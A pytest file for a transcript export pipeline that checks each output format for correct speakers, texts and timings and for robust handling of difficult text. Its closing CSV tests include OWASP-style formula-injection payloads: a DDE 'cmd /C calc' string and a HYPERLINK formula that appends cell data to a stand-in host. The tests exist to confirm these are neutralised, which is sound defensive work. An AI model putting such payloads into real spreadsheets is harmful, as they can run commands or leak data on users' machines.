"""Every export writer, read back: speakers, texts and times agree with the transcript.

Each format has a small reader here (written from the format's syntax, not from the writer), and
the expected content is built independently from the transcript: one unit per segment for row and
cue formats, one per speaker turn for the readable transcripts.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path

import docx
import pytest

from pipeline.export import WRITERS, ExportConfig, ExportError, read_qdpx
from pipeline.export.base import ProjectWriter
from pipeline.schema import Segment, Speaker, Transcript
from pipeline.stages.export import run

REPO = Path(__file__).resolve().parents[1]
EVAL = REPO.parent / "shared" / "eval"
ALL = list(WRITERS)
TENTHS = 0.05 + 1e-6  # rounded to tenths: within half a tenth
MILLIS = 0.0005 + 1e-6
WHOLE = 1.0  # whole seconds rounded down: never after the start, less than a second before
TOLERANCE = {
    "txt": WHOLE,
    "docx": WHOLE,
    "maxqda": WHOLE,
    "nvivo": TENTHS,
    "docx_table": TENTHS,
    "srt": MILLIS,
    "vtt": MILLIS,
    "qdpx": MILLIS,
    "csv": MILLIS,
}


@dataclass(frozen=True)
class Unit:
    start: float
    end: float | None
    speaker: str
    text: str


def hms(text: str) -> float:
    h, m, s = text.replace(",", ".").split(":")
    return int(h) * 3600 + int(m) * 60 + float(s)


# ---------------------------------------------------------------------------------------------
# Readers, one per format
# ---------------------------------------------------------------------------------------------

SPEAKER_TEXT = re.compile(r"(.*?): (.*)", re.S)


STAMP = r"\[(\d\d:\d\d:\d\d)\]"  # [hh:mm:ss]


def read_txt(data: bytes) -> list[Unit]:
    """Speaker first (for speaker auto-coding), then the turn's stamp: ``Speaker: [hh:mm:ss] text``."""
    units = []
    for para in data.decode("utf-8").split("\n\n"):
        if not para.strip():
            continue
        assert "\n" not in para.strip("\n"), "a turn spans lines"
        m = re.fullmatch(r"(.*?): " + STAMP + r" (.*)", para.strip("\n"))
        assert m, para
        units.append(Unit(hms(m[2]), None, m[1], m[3]))
    return units


def read_docx(data: bytes) -> list[Unit]:
    """NVivo's rule: every paragraph starts with a stamp (no heading): ``[hh:mm:ss] **Speaker:** text``."""
    doc = docx.Document(io.BytesIO(data))
    units = []
    for p in doc.paragraphs:
        m = re.fullmatch(STAMP + r" (.*?): (.*)", p.text)
        assert m, p.text
        bold = [r.text for r in p.runs if r.bold]
        assert bold == [f"{m[2]}:"], "the speaker name (and only it) is bold"
        units.append(Unit(hms(m[1]), None, m[2], m[3]))
    return units


def read_maxqda(data: bytes) -> list[Unit]:
    """One paragraph per segment, blank line between, ``[hh:mm:ss]Speaker: text`` (BOM, CRLF)."""
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    text = text[1:]
    assert "\n" not in text.replace("\r\n", ""), "line ends are CRLF"
    units = []
    for para in (p for p in text.split("\r\n\r\n") if p.strip()):
        m = re.fullmatch(STAMP + r"(\S.*?): (.*)", para.strip("\r\n"))
        assert m, para
        units.append(Unit(hms(m[1]), None, m[2], m[3]))
    return units


def read_nvivo(data: bytes) -> list[Unit]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = text[1:].split("\r\n")
    assert rows[-1] == ""
    rows = [r.split("\t") for r in rows[:-1]]
    assert {len(r) for r in rows} == {3}, "same column count on every line"
    assert rows[0] == ["Timespan", "Speaker", "Content"]
    out = []
    for span, speaker, content in rows[1:]:
        a, b = re.fullmatch(r"(\d\d:\d\d:\d\d\.\d)-(\d\d:\d\d:\d\d\.\d)", span).groups()
        out.append(Unit(hms(a), hms(b), speaker, content))
    return out


def read_docx_table(data: bytes) -> list[Unit]:
    doc = docx.Document(io.BytesIO(data))
    (table,) = doc.tables
    rows = [[c.text for c in row.cells] for row in table.rows]
    assert rows[0] == ["Timespan", "Speaker", "Content"]
    out = []
    for span, speaker, content in rows[1:]:
        a, b = span.split("-")
        out.append(Unit(hms(a), hms(b), speaker, content))
    return out


def read_srt(data: bytes) -> list[Unit]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM"
    out = []
    blocks = data.decode("utf-8-sig").split("\n\n")
    for n, block in enumerate(blocks, 1):
        index, timing, *text = block.strip("\n").split("\n")
        assert index == str(n) and len(text) == 1
        a, b = re.fullmatch(r"(\d\d:\d\d:\d\d,\d{3}) --> (\d\d:\d\d:\d\d,\d{3})", timing).groups()
        m = re.fullmatch(r"(.*?):(?: (.*))?", text[0])
        out.append(Unit(hms(a), hms(b), m[1], m[2] or ""))
    return out


def read_vtt(data: bytes) -> list[Unit]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM"
    head, *blocks = data.decode("utf-8-sig").split("\n\n")
    assert head == "WEBVTT"
    out = []
    for block in blocks:
        timing, *text = block.strip("\n").split("\n")
        assert len(text) == 1
        a, b = re.fullmatch(r"(\d\d:\d\d:\d\d\.\d{3}) --> (\d\d:\d\d:\d\d\.\d{3})", timing).groups()
        assert "-->" not in text[0] and "<" not in text[0], "plain cue text, no voice span"
        m = re.fullmatch(r"(.*?):(?: (.*))?", html.unescape(text[0]))
        out.append(Unit(hms(a), hms(b), m[1], m[2] or ""))
    return out


def read_csv(data: bytes, interview_id: str) -> list[Unit]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows[0] == ["interview", "segment", "start", "end", "speaker_id", "speaker", "text"]
    return [Unit(float(r[2]), float(r[3]), r[5], r[6]) for r in rows[1:] if r[0] == interview_id]


def csv_shown(text: str) -> str:
    """OWASP's neutralisation, written here from its rule: a leading ' before a formula start."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def read_qdpx_units(data: bytes, interview_id: str) -> list[Unit]:
    iv = read_qdpx(data).interviews[interview_id]
    return [Unit(s.start, s.end, s.speaker, s.text) for s in iv.segments]


# ---------------------------------------------------------------------------------------------
# What each format should hold, built from the transcript
# ---------------------------------------------------------------------------------------------


def expected(t: Transcript, fmt: str, text_of, display) -> list[Unit]:
    """``text_of(seg)``: the one-line text a writer shows; ``display(label)``: the shown speaker name."""
    segs = sorted(t.segments, key=lambda s: s.start)
    label = t.speaker_label
    if fmt in ("nvivo", "docx_table", "srt", "vtt"):
        return [Unit(s.start, s.end, display(label(s.speaker)), text_of(s)) for s in segs]
    if fmt == "csv":
        return [Unit(s.start, s.end, label(s.speaker), s.text) for s in segs]
    shown = [s for s in segs if text_of(s)]
    if fmt == "qdpx":
        return [Unit(s.start, s.end, label(s.speaker), text_of(s)) for s in shown]
    if fmt == "maxqda":
        return [Unit(s.start, None, display(label(s.speaker)), text_of(s)) for s in shown]
    turns: list[list[Segment]] = []  # txt, docx: consecutive same-speaker segments
    for s in shown:
        if turns and turns[-1][-1].speaker == s.speaker:
            turns[-1].append(s)
        else:
            turns.append([s])
    return [
        Unit(g[0].start, None, display(label(g[0].speaker)), " ".join(text_of(s) for s in g)) for g in turns
    ]


def render(fmt: str, t: Transcript, config: ExportConfig | None = None) -> bytes:
    config = config or ExportConfig(formats=[fmt])
    w = WRITERS[fmt]()
    return w.render([t], config) if isinstance(w, ProjectWriter) else w.render(t, config)


def read_back(fmt: str, data: bytes, t: Transcript) -> list[Unit]:
    readers = {
        "txt": read_txt,
        "docx": read_docx,
        "nvivo": read_nvivo,
        "docx_table": read_docx_table,
        "srt": read_srt,
        "vtt": read_vtt,
        "maxqda": read_maxqda,
        "csv": lambda d: read_csv(d, t.interview_id),
        "qdpx": lambda d: read_qdpx_units(d, t.interview_id),
    }
    return readers[fmt](data)


def assert_units(got: list[Unit], want: list[Unit], tol: float) -> None:
    assert [(u.speaker, u.text) for u in got] == [(u.speaker, u.text) for u in want]
    for g, w in zip(got, want, strict=True):
        if tol == WHOLE:
            assert 0 <= w.start - g.start < WHOLE, (g, w)
        assert abs(g.start - w.start) <= tol, (g, w)
        if w.end is not None:
            assert abs(g.end - w.end) <= tol, (g, w)


def plain(seg: Segment) -> str:
    return seg.text.strip()


# ---------------------------------------------------------------------------------------------
# Transcripts
# ---------------------------------------------------------------------------------------------


def synthetic() -> Transcript:
    return Transcript(
        interview_id="synthetic-01",
        language="en",
        segments=[
            Segment(0, 0.52, 3.96, " Thanks for coming in today.", "S1"),
            Segment(1, 4.04, 6.05, " Shall we start with your work?", "S1"),
            Segment(2, 6.96, 12.349, " Sure. I started at the library in 2015.", "S2"),
            Segment(3, 12.951, 59.96, " It was a long first year.", "S2"),
            Segment(4, 61.25, 3725.449, " And after that?", "S1"),
        ],
        speakers=[Speaker("S1", "Interviewer", "interviewer"), Speaker("S2", "Participant 1", "participant")],
        duration=3726.0,
    )


def from_stm(path: Path) -> Transcript:
    """The pyannote sample's human transcript (../shared/eval/speakers/sample.stm)."""
    segs, ids = [], {}
    for n, line in enumerate(path.read_text().splitlines()):
        _, _, name, start, end, text = line.split(" ", 5)
        sid = ids.setdefault(name, f"S{len(ids) + 1}")
        segs.append(Segment(n, float(start), float(end), text, sid))
    return Transcript(path.stem, "en", segs, [Speaker(sid, name, "participant") for name, sid in ids.items()])


def from_reference(path: Path) -> Transcript:
    """An audio_samples reference: its turns as segments."""
    ref = json.loads(path.read_text())
    segs = [Segment(n, t["start"], t["end"], t["text"], t["speaker"]) for n, t in enumerate(ref["turns"])]
    speakers = [
        Speaker(k, v["role"].title() if v["role"] == "interviewer" else k, v["role"])
        for k, v in ref["speakers"].items()
    ]
    return Transcript(ref["interview"], "en", segs, speakers)


def reference_transcripts() -> list:
    params = [pytest.param(synthetic, id="synthetic")]
    stm = EVAL / "speakers" / "sample.stm"
    params.append(
        pytest.param(
            lambda: from_stm(stm),
            id="eval-sample-stm",
            marks=pytest.mark.skipif(not stm.exists(), reason=f"evaluation data missing: {stm}"),
        )
    )
    for ref in sorted((REPO / "audio_samples").glob("interview_*.reference.json")):
        params.append(pytest.param(lambda ref=ref: from_reference(ref), id=ref.stem))
    return params


# ---------------------------------------------------------------------------------------------
# Tests
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("make", reference_transcripts())
@pytest.mark.parametrize("fmt", [f for f in ALL if f != "json"])
def test_every_format_reads_back_with_speakers_texts_and_times(make, fmt):
    t = make()
    got = read_back(fmt, render(fmt, t), t)
    assert_units(got, expected(t, fmt, plain, lambda s: s), TOLERANCE[fmt])


@pytest.mark.parametrize("make", reference_transcripts())
def test_json_is_exactly_the_shareable_transcript(make):
    t = make()
    assert Transcript.from_dict(json.loads(render("json", t))) == t


# Text that breaks formats, and the one line every paragraph/row/cue format shows for it.
NASTY = [
    ("tab", "before\tafter", "before after"),
    ("newline", "first line\nsecond line", "first line second line"),
    ("crlf-and-spaces", "one  \r\n  two", "one two"),
    ("blank-lines", "para one\n\n\npara two", "para one para two"),
    ("hash", "#1 priority, #hashtag", "#1 priority, #hashtag"),
    ("lt-amp", "<v Bob> 5 < 6 & 7 > 3 &amp; </b>", "<v Bob> 5 < 6 & 7 > 3 &amp; </b>"),
    ("colons", "Note: at 10:30:15 we met: twice", "Note: at 10:30:15 we met: twice"),
    ("arrow", "a --> b", "a --> b"),
    ("quotes", "\"Yes,\" she said, 'no'", "\"Yes,\" she said, 'no'"),
    ("non-latin", "Grüße, Ελληνικά, 日本語, العربية, עברית", "Grüße, Ελληνικά, 日本語, العربية, עברית"),
    ("emoji", "ok 👍🏽 sure 😀", "ok 👍🏽 sure 😀"),
    ("empty", "", ""),
    ("blank", "  \t ", ""),
    ("control-chars", "bell\x07end\x0bvt", "bell end vt"),
    ("unicode-line-separator", "left\u2028right", "left right"),
    ("formula", "=SUM(A1:A2)", "=SUM(A1:A2)"),
    ("formula-plus", "+1 555 0100", "+1 555 0100"),
    ("formula-minus", "-2+3 and more", "-2+3 and more"),
    ("formula-at", "@SUM(1,2)", "@SUM(1,2)"),
    ("formula-tab", "\t=1+1", "=1+1"),
    ("formula-cr", "\r=1+1", "=1+1"),
    (
        "stamp-like",
        "at [00:01:02] and {00:00:03} and #00:00:04.5#",
        "at [00:01:02] and {00:00:03} and #00:00:04.5#",
    ),
]


def nasty_transcript(text: str) -> Transcript:
    return Transcript(
        "nasty",
        "en",
        [
            Segment(0, 0.0, 1.0, "Before we start.", "S1"),
            Segment(1, 1.26, 2.34, text, "S2"),
            Segment(2, 2.5, 3.05, "And after.", "S1"),
        ],
        [Speaker("S1", "Interviewer"), Speaker("S2", "Participant")],
    )


def shown_text(fmt: str, one_line: str) -> str:
    """What a reader gets back: the one line, with each format's documented escape undone."""
    if fmt == "srt":
        return one_line.replace("-->", "->")  # SRT cannot escape; no line may look like a timing line
    if fmt in ("txt", "docx", "maxqda"):  # a stamp reader must find only our stamps
        return one_line.replace("[0", "\uff3b0").replace("{0", "\uff5b0").replace("#0", "\uff030")
    return one_line


@pytest.mark.parametrize("fmt", [f for f in ALL if f != "json"])
@pytest.mark.parametrize(("case", "text", "line"), NASTY, ids=[n[0] for n in NASTY])
def test_text_that_breaks_formats_survives(fmt, case, text, line):
    t = nasty_transcript(text)
    data = render(fmt, t)
    got = read_back(fmt, data, t)
    if fmt == "csv":
        want_text = csv_shown(
            {"control-chars": "bell end vt"}.get(case, text)
        )  # controls go, formulas defused
        want = [Unit(0.0, 1.0, "Interviewer", "Before we start."), Unit(1.26, 2.34, "Participant", want_text)]
        want.append(Unit(2.5, 3.05, "Interviewer", "And after."))
    else:
        texts = {0: "Before we start.", 1: shown_text(fmt, line), 2: "And after."}
        want = expected(t, fmt, lambda s: texts[s.id], lambda s: s)
    assert_units(got, want, TOLERANCE[fmt])


@pytest.mark.parametrize(("case", "text", "line"), NASTY, ids=[n[0] for n in NASTY])
def test_json_keeps_text_that_breaks_formats_exactly(case, text, line):
    t = nasty_transcript(text)
    assert Transcript.from_dict(json.loads(render("json", t))).segments[1].text == text


@pytest.mark.parametrize("fmt", ["txt", "maxqda"])
@pytest.mark.parametrize(
    "fake", ["[00:00:05]", "[05:00]", "{00:00:05}", "#00:00:05.0#", "#00:00:05-0#", "[00.00.05]"]
)
def test_text_that_looks_like_a_time_stamp_is_defused(fmt, fake):
    t = nasty_transcript(f"see {fake} here")
    data = render(fmt, t).decode("utf-8-sig")
    assert fake not in data
    assert len(re.findall(STAMP, data)) == len(read_back(fmt, render(fmt, t), t))  # ours, one per unit


def test_zip_formats_carry_no_clock_time():
    t = synthetic()
    for fmt in ("docx", "docx_table", "qdpx"):
        with zipfile.ZipFile(io.BytesIO(render(fmt, t))) as zf:
            assert {i.date_time for i in zf.infolist()} == {(1980, 1, 1, 0, 0, 0)}, fmt
    props = docx.Document(io.BytesIO(render("docx", t))).core_properties
    assert (props.author, props.last_modified_by, props.created.year, props.modified.year) == (
        "",
        "",
        2000,
        2000,
    )


# Speaker labels that break "Speaker: text" layouts, and the name those layouts show.
LABELS = [
    ("plain", "Participant 3", "Participant 3"),
    ("colon", "P: 3", "P- 3"),
    ("hash", "#3", "-3"),
    ("tab-newline", "Ana\tMaría\nB", "Ana María B"),
    ("markup", "<b>Bo & Co</b>", "<b>Bo & Co</b>"),
    ("non-latin", "Участник", "Участник"),
    ("empty", "", "Unknown"),
]


@pytest.mark.parametrize("fmt", [f for f in ALL if f != "json"])
@pytest.mark.parametrize(("case", "label", "shown"), LABELS, ids=[x[0] for x in LABELS])
def test_speaker_labels_survive_every_writer(fmt, case, label, shown):
    t = nasty_transcript("A plain answer.")
    t.speakers[1] = Speaker("S2", label)
    got = read_back(fmt, render(fmt, t), t)
    want = label if fmt in ("csv", "qdpx") else shown  # tables of record keep the label as is
    assert [u.speaker for u in got if u.text == "A plain answer."] == [want]


def test_segments_without_a_speaker_show_as_unknown():
    t = nasty_transcript("Who said this?")
    t.segments[1].speaker = None
    assert read_txt(render("txt", t))[1].speaker == "Unknown"
    assert read_nvivo(render("nvivo", t))[1].speaker == "Unknown"


@pytest.mark.parametrize(
    ("seconds", "nvivo", "srt"),
    [
        (0.0, "00:00:00.0", "00:00:00,000"),
        (0.04999, "00:00:00.0", "00:00:00,050"),
        (59.96, "00:01:00.0", "00:00:59,960"),
        (3599.9996, "01:00:00.0", "01:00:00,000"),
        (36000.25, "10:00:00.2", "10:00:00,250"),
        (-0.3, "00:00:00.0", "00:00:00,000"),
    ],
)
def test_times_are_rounded_to_the_formats_resolution(seconds, nvivo, srt):
    t = Transcript("times", "en", [Segment(0, seconds, max(seconds, 0) + 1, "x", "S1")], [Speaker("S1", "A")])
    assert read_nvivo(render("nvivo", t))[0].start == pytest.approx(hms(nvivo))
    assert read_srt(render("srt", t))[0].start == pytest.approx(hms(srt))


def test_segments_are_exported_in_time_order():
    t = synthetic()
    t.segments.reverse()
    assert [u.start for u in read_srt(render("srt", t))] == sorted(s.start for s in t.segments)


def test_timestamps_off_leaves_readable_transcripts_without_times():
    t = synthetic()
    cfg = ExportConfig(formats=["txt", "docx"], timestamps=False)
    txt = render("txt", t, cfg).decode()
    assert "[" not in txt and txt.startswith("Interviewer: Thanks for coming in today.")
    doc = docx.Document(io.BytesIO(render("docx", t, cfg)))
    assert doc.paragraphs[0].text.startswith("Interviewer: ")


# ---------------------------------------------------------------------------------------------
# The stage
# ---------------------------------------------------------------------------------------------


def two_interviews() -> list[Transcript]:
    a = synthetic()
    b = nasty_transcript("Grüße & <tags>\tand\nlines")
    return [a, b]


def test_run_writes_every_format_where_the_layout_says(tmp_path):
    paths = run(two_interviews(), tmp_path, ExportConfig(formats=ALL))
    rel = sorted(p.relative_to(tmp_path).as_posix() for p in paths)
    per_interview = [
        "{i}/{i}.txt",
        "{i}/{i}.docx",
        "{i}/{i}.table.docx",
        "{i}/{i}.nvivo.txt",
        "{i}/{i}.maxqda.txt",
        "{i}/{i}.srt",
        "{i}/{i}.vtt",
        "{i}/{i}.json",
    ]
    want = sorted(
        ["project.qdpx", "segments.csv"]
        + [p.format(i=i) for i in ("synthetic-01", "nasty") for p in per_interview]
    )
    assert rel == want
    on_disk = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file())
    assert on_disk == want, "nothing else (no temporary files) is left behind"
    assert all((p.stat().st_mode & 0o777) == 0o600 for p in paths)
    assert set(read_qdpx(tmp_path / "project.qdpx").interviews) == {"synthetic-01", "nasty"}


def test_run_defaults_to_txt_docx_and_qdpx(tmp_path):
    paths = run([synthetic()], tmp_path, ExportConfig())
    assert sorted(p.name for p in paths) == ["project.qdpx", "synthetic-01.docx", "synthetic-01.txt"]


@pytest.mark.parametrize("fmt", ALL)
def test_same_input_gives_byte_identical_files(tmp_path, fmt):
    cfg = ExportConfig(formats=[fmt])
    first = {
        p.relative_to(tmp_path / "a"): p.read_bytes() for p in run(two_interviews(), tmp_path / "a", cfg)
    }
    second = {
        p.relative_to(tmp_path / "b"): p.read_bytes() for p in run(two_interviews(), tmp_path / "b", cfg)
    }
    assert first == second


@pytest.mark.parametrize(
    ("transcripts", "message"),
    [
        ([Transcript("../escape", "en")], "not usable as a folder name"),
        ([Transcript("a/b", "en")], "not usable as a folder name"),
        ([Transcript("", "en")], "not usable as a folder name"),
        ([Transcript("same", "en"), Transcript("same", "en")], "appears twice"),
        ([Transcript("nan", "en", [Segment(7, float("nan"), 1.0, "x")])], "segment 7"),
        ([Transcript("inf", "en", [Segment(3, 0.0, float("inf"), "x")])], "segment 3"),
    ],
)
def test_untransportable_transcripts_are_refused_before_writing(tmp_path, transcripts, message):
    with pytest.raises(ExportError, match=message):
        run(transcripts, tmp_path, ExportConfig(formats=ALL))
    assert not any(tmp_path.iterdir())


def test_interview_without_segments_still_gets_its_files(tmp_path):
    empty = Transcript("silent", "en")
    paths = run([empty], tmp_path, ExportConfig(formats=ALL))
    assert len(paths) == 10
    assert read_nvivo((tmp_path / "silent" / "silent.nvivo.txt").read_bytes()) == []
    assert read_qdpx(tmp_path / "project.qdpx").interviews["silent"].segments == []


# Cells a spreadsheet would evaluate (OWASP "CSV Injection"), English and Danish.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"Click here")',
    '=HYPERLINK("http://eksempel.invalid";"Klik her for at se mere")',
    "+45 12 34 56 78",
    "-Ja, det tror jeg nok",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cells_that_would_start_a_formula_are_neutralised(text):
    t = nasty_transcript(text)
    t.speakers[1] = Speaker("=cmd|' /C calc'!A0", "@Søren")
    t.segments[1].speaker = "=cmd|' /C calc'!A0"
    rows = list(csv.reader(io.StringIO(render("csv", t).decode("utf-8"), newline="")))
    row = rows[2]
    assert row[6] == "'" + text and row[5] == "'@Søren" and row[4] == "'=cmd|' /C calc'!A0"
    for r in rows[1:]:  # no cell of any row starts a formula
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in r), r


def test_csv_keeps_ordinary_text_and_numbers_unchanged():
    t = nasty_transcript("Det var 3-4 år siden, ca. -5 grader.")
    row = list(csv.reader(io.StringIO(render("csv", t).decode("utf-8"), newline="")))[2]
    assert row[1:4] == ["1", "1.260", "2.340"] and row[6] == "Det var 3-4 år siden, ca. -5 grader."
